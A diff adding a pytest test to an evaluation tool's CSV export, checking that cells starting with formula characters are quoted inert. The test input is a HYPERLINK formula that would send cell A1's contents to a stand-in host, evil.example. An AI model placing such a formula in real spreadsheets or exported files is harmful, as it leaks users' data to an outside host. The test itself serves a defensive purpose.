@@ -186,3 +186,22 @@ def test_hostile_suite_is_a_usage_error_at_collection(bench, pytester: pytest.Py
     suite = pytester.path / "bad.yaml"
     suite.write_text(edit(MINI_SUITE), encoding="utf-8")
     test_bad_input.assert_usage_error(bench(suite="bad.yaml"), pytester.path, f"suite file {suite}: {message}")
+
+
+# -- 5. CSV formula injection ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_made_inert(start: str) -> None:
+    import csv
+    import io
+    from dataclasses import replace
+
+    from evals.reports.tables import results_csv
+
+    case = scored("a", "commands", 0.0, 1.0)
+    answer = f'{start}HYPERLINK("http://evil.example/?"&A1,"clic")'
+    case = replace(case, finetuned=replace(case.finetuned, answer=answer), case=replace(case.case, prompt=answer))
+    row = next(csv.DictReader(io.StringIO(results_csv(make_results([case])))))
+    assert row["finetuned_answer"] == "'" + answer and row["prompt"] == "'" + answer
+    assert row["relevance_base"] == "0.0", "numbers stay numbers"
